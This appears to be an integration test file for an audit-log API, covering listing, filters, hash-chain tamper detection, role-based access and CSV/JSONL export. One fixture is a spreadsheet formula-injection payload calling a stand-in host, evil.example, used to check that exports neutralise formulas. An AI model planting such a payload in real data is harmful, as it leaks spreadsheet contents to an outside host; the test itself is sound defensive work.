import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { FastifyRequest } from 'fastify';
import { createAuditActivities } from '../../activities/audit-activities';
import type { Principal } from '../../api/auth/access';
import { appendAudit } from '../../db/audit-repo';
import { exportLedger } from '../../db/audit-ledger';
import { AUDIT_CSV_COLUMNS } from '../../services/audit/audit-export';
import { seedAdmin } from '../support/identity';
import type { AuditAction } from '../../protocol/audit-actions';
import { withTransaction } from '../../db/pool';
import { createFixedClock, ensureKeys, type Actor } from '../../protocol';
import { buildTestApp, testConfig, testServices } from '../support/app';
import { createTestDatabase, type TestDatabase } from '../support/db';

/** GET /v1/admin/audit and /v1/admin/audit/verify through the real app on a real database. */
let db: TestDatabase;
let keysDir: string;
let built: Awaited<ReturnType<typeof buildTestApp>>;
let anonymousApp: Awaited<ReturnType<typeof buildTestApp>>;

const PRINCIPALS: Record<string, Principal> = {
  admin: { kind: 'admin', id: 'adm_audittestadmin000001', sessionId: 'sess_test' },
  service: { kind: 'service', id: 'svc_auditor0000000000001' },
  customer: {
    kind: 'customer',
    id: 'usr_customer00000000001',
    customerId: 'cus_customer00000000001',
    sessionId: 'sess_c',
  },
  agent: {
    kind: 'agent',
    id: 'agt_agent000000000000001',
    licenseId: 'lic_license0000000000001',
    customerId: 'cus_customer00000000001',
  },
};

/** Test harness only: the caller named by a header; production wiring never takes this path. */
const headerAuthenticator = async (req: FastifyRequest) => {
  const who = req.headers['x-test-principal'];
  return typeof who === 'string' && PRINCIPALS[who] ? PRINCIPALS[who] : null;
};

const START = new Date('2026-03-01T00:00:00.000Z');
const EVENTS: Array<{ actor: Actor; action: AuditAction; subject: { kind: string; id: string } }> = [];
for (let i = 0; i < 25; i++) {
  EVENTS.push({
    actor: i % 2 ? { kind: 'admin', id: 'adm_alice' } : { kind: 'system', id: 'svc_bot' },
    action: i % 5 === 0 ? 'license.revoked' : 'license.renewed',
    subject: { kind: 'license', id: `lic_${i % 3}` },
  });
}

const get = (url: string, who?: keyof typeof PRINCIPALS, app = built.app) =>
  app.inject({ method: 'GET', url, headers: who ? { 'x-test-principal': who } : {} });

beforeAll(async () => {
  db = await createTestDatabase('auditapi');
  keysDir = mkdtempSync(path.join(os.tmpdir(), 'agentina-auditapi-keys-'));
  ensureKeys(keysDir, ['audit']);
  const clock = createFixedClock(START);
  for (const e of EVENTS) {
    await withTransaction(db.pool, (tx) => appendAudit(tx, { ...e, data: { note: 'x' } }, clock));
    clock.advance(60_000);
  }
  await createAuditActivities(testServices({ pool: db.pool, clock, keysDir })).signAuditCheckpoint({
    workflowId: 'api-test-checkpoint',
  });
  const config = testConfig({ AGENTINA_KEYS_DIR: keysDir });
  built = await buildTestApp({ pool: db.pool, config, authenticate: headerAuthenticator });
  anonymousApp = await buildTestApp({ pool: db.pool, config });
});

afterAll(async () => {
  await built?.close();
  await anonymousApp?.close();
  await db?.drop();
  if (keysDir) rmSync(keysDir, { recursive: true, force: true });
});

describe('GET /v1/admin/audit', () => {
  it('lists newest first with hashes, bounded by limit', async () => {
    const res = await get('/v1/admin/audit?limit=5', 'admin');
    expect(res.statusCode).toBe(200);
    const body = res.json<{
      items: Array<{ seq: number; hash: string; prevHash: string }>;
      nextCursor: string | null;
    }>();
    expect(body.items.map((i) => i.seq)).toEqual([26, 25, 24, 23, 22]);
    expect(body.items[0]!.prevHash).toBe(body.items[1]!.hash);
    expect(body.nextCursor).toBe('22');
  });

  it('pages through everything with the cursor, without overlap or gap', async () => {
    const seen: number[] = [];
    let cursor: string | null = null;
    do {
      const res = await get(`/v1/admin/audit?limit=7${cursor ? `&cursor=${cursor}` : ''}`, 'admin');
      const body = res.json<{ items: Array<{ seq: number }>; nextCursor: string | null }>();
      seen.push(...body.items.map((i) => i.seq));
      cursor = body.nextCursor;
    } while (cursor);
    expect(seen).toEqual(Array.from({ length: 26 }, (_, i) => 26 - i));
  });

  it.each([
    ['actorKind=admin&actorId=adm_alice', (e: (typeof EVENTS)[number]) => e.actor.id === 'adm_alice'],
    ['action=license.revoked', (e: (typeof EVENTS)[number]) => e.action === 'license.revoked'],
    ['subjectKind=license&subjectId=lic_1', (e: (typeof EVENTS)[number]) => e.subject.id === 'lic_1'],
    [
      'actorKind=system&action=license.revoked&subjectId=lic_0',
      (e: (typeof EVENTS)[number]) =>
        e.actor.kind === 'system' && e.action === 'license.revoked' && e.subject.id === 'lic_0',
    ],
  ])('filters: %s', async (query, keep) => {
    const res = await get(`/v1/admin/audit?${query}&limit=200`, 'admin');
    expect(res.statusCode).toBe(200);
    const want = EVENTS.map((e, i) => ({ e, seq: i + 1 }))
      .filter(({ e }) => keep(e))
      .map(({ seq }) => seq)
      .reverse();
    expect(res.json<{ items: Array<{ seq: number }> }>().items.map((i) => i.seq)).toEqual(want);
  });

  it('filters by a time range [since, until)', async () => {
    const since = new Date(START.getTime() + 10 * 60_000).toISOString();
    const until = new Date(START.getTime() + 13 * 60_000).toISOString();
    const res = await get(
      `/v1/admin/audit?since=${encodeURIComponent(since)}&until=${encodeURIComponent(until)}`,
      'admin',
    );
    expect(res.json<{ items: Array<{ seq: number }> }>().items.map((i) => i.seq)).toEqual([13, 12, 11]);
  });

  it.each([
    'limit=0',
    'limit=201',
    'limit=ten',
    'cursor=abc',
    'cursor=-4',
    'action=license.exploded',
    'actorKind=root',
    'since=yesterday',
    'since=2026-03-02T00:00:00Z&until=2026-03-01T00:00:00Z',
    `actorId=${'a'.repeat(201)}`,
    'sneaky=1',
  ])('refuses a bad query with a 400 in the one error shape: %s', async (query) => {
    const res = await get(`/v1/admin/audit?${query}`, 'admin');
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ error: { code: 'VALIDATION_FAILED', requestId: expect.any(String) } });
  });
});

describe('GET /v1/admin/audit/verify', () => {
  it('answers ok with how far it checked and the checkpoints', async () => {
    const res = await get('/v1/admin/audit/verify', 'admin');
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      ok: true,
      checkedFrom: 1,
      checkedThrough: 26,
      checkpoints: { total: 1, valid: 1, latest: { sequence: 25 } },
    });
    expect(res.json()).not.toHaveProperty('firstBreak');
    const from = await get('/v1/admin/audit/verify?from=20', 'admin');
    expect(from.json()).toMatchObject({ ok: true, checkedFrom: 20, events: 7 });
    expect((await get('/v1/admin/audit/verify?from=0', 'admin')).statusCode).toBe(400);
  });

  it('names the first broken link after a superuser edit', async () => {
    const c = await db.adminPool.connect();
    try {
      await c.query('ALTER TABLE agentina.audit_events DISABLE TRIGGER audit_events_no_update');
      await c.query("UPDATE agentina.audit_events SET actor_id = 'adm_mallory' WHERE seq = 9");
      const res = await get('/v1/admin/audit/verify', 'service');
      expect(res.statusCode).toBe(200);
      expect(res.json()).toMatchObject({ ok: false, checkedThrough: 8, firstBreak: { seq: 9, code: 'HASH_MISMATCH' } });
    } finally {
      await c.query('UPDATE agentina.audit_events SET actor_id = $1 WHERE seq = 9', [EVENTS[8]!.actor.id]);
      await c.query('ALTER TABLE agentina.audit_events ENABLE ALWAYS TRIGGER audit_events_no_update');
      c.release();
    }
    expect((await get('/v1/admin/audit/verify', 'admin')).json()).toMatchObject({ ok: true });
  });
});

describe('who may read the audit', () => {
  it.each(['/v1/admin/audit', '/v1/admin/audit/verify'])(
    'anonymous gets 401 from the real authenticator: %s',
    async (url) => {
      const res = await get(url, undefined, anonymousApp.app);
      expect(res.statusCode).toBe(401);
      expect(res.json()).toMatchObject({ error: { code: 'UNAUTHENTICATED' } });
    },
  );

  it.each([
    ['admin', 200],
    ['service', 200],
    ['customer', 403],
    ['agent', 403],
  ] as const)('%s → %i', async (who, status) => {
    expect((await get('/v1/admin/audit?limit=1', who)).statusCode).toBe(status);
    expect((await get('/v1/admin/audit/verify', who)).statusCode).toBe(status);
  });

  it('a forged session cookie or bearer token is not an admin', async () => {
    for (const headers of [{ cookie: '__Host-agentina_admin=sess_forged' }, { authorization: 'Bearer svc_forged' }]) {
      const res = await anonymousApp.app.inject({ method: 'GET', url: '/v1/admin/audit', headers });
      expect(res.statusCode).toBe(401);
    }
  });
});

/** Parses CSV with Python's csv module (an independent RFC 4180 reader), strict about quoting. */
async function readCsvWithPython(text: string): Promise<string[][]> {
  const child = spawn(
    'python3',
    [
      '-c',
      "import csv, io, json, sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline=''), strict=True))))",
    ],
    { stdio: ['pipe', 'pipe', 'inherit'] },
  );
  let out = '';
  child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
  child.stdin.end(text);
  const [code] = (await once(child, 'close')) as [number];
  if (code !== 0) throw new Error(`python3 csv exited ${code}`);
  return JSON.parse(out) as string[][];
}

describe('GET /v1/admin/audit/export', () => {
  // A customer names itself (or writes a reason) so that a spreadsheet opening the export runs it.
  const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"open"),\r\nsecond "line"';
  let hostileSeq: number;
  let seeded: { id: string; email: string };

  beforeAll(async () => {
    seeded = await seedAdmin(db.pool, { email: 'robin@example.test', cheap: true });
    await db.pool.query(`UPDATE admins SET display_name = '+Robin' WHERE id = $1`, [seeded.id]);
    await withTransaction(db.pool, (tx) =>
      appendAudit(tx, {
        actor: { kind: 'admin', id: seeded.id },
        action: 'license.suspended',
        subject: { kind: 'license', id: 'lic_0' },
        data: { reason: HOSTILE },
      }),
    );
    // Rows are numbered when they are chained, at commit.
    const { rows } = await db.pool.query<{ seq: string }>(
      `SELECT max(seq) AS seq FROM audit_events WHERE action = 'license.suspended'`,
    );
    hostileSeq = Number(rows[0]!.seq);
  });

  it('JSONL is exactly the event lines of agentina audit export for the rows the filters match, in chain order', async () => {
    const res = await get('/v1/admin/audit/export?format=jsonl&action=license.revoked', 'service');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="agentina-audit-[0-9TZ-]+\.jsonl"$/);
    const cli: string[] = [];
    await exportLedger(db.pool, { seq: 1 }, (line) => void cli.push(line));
    const want = cli.filter((l) => l.includes('"type":"event"') && l.includes('"action":"license.revoked"'));
    expect(want).toHaveLength(5);
    expect(res.body).toBe(want.map((l) => `${l}\n`).join(''));
  });

  it('CSV reads back through Python’s csv module with names, and no field starts a formula', async () => {
    const res = await get('/v1/admin/audit/export?format=csv&subjectId=lic_0', 'admin');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const rows = await readCsvWithPython(res.body);
    expect(rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
    const body = rows.slice(1);
    const want = EVENTS.map((e, i) => ({ e, seq: i + 1 }))
      .filter(({ e }) => e.subject.id === 'lic_0')
      .map(({ seq }) => String(seq));
    expect(body.map((r) => r[0])).toEqual([...want, String(hostileSeq)]);
    const last = body[body.length - 1]!;
    expect(last[4]).toBe(`'+Robin <robin@example.test>`);
    expect(JSON.parse(last[9]!)).toEqual({ reason: HOSTILE });
    for (const r of body) for (const field of r) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each([
    '',
    'format=xml',
    'format=csv&cursor=3',
    'format=csv&since=2026-03-02T00:00:00Z&until=2026-03-01T00:00:00Z',
  ])('refuses a bad query with a 400 in the one error shape: %s', async (query) => {
    const res = await get(`/v1/admin/audit/export?${query}`, 'admin');
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ error: { code: 'VALIDATION_FAILED' } });
  });

  it.each([
    ['customer', 403],
    ['agent', 403],
  ] as const)('%s → %i', async (who, status) => {
    expect((await get('/v1/admin/audit/export?format=csv', who)).statusCode).toBe(status);
  });
});
